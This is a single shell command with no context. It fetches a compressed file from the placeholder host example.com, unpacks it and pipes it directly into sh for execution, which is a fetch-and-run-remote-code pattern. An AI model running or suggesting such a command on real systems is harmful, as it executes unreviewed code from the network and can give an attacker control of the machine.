curl -s http://example.com/a.gz | gunzip -c | sh
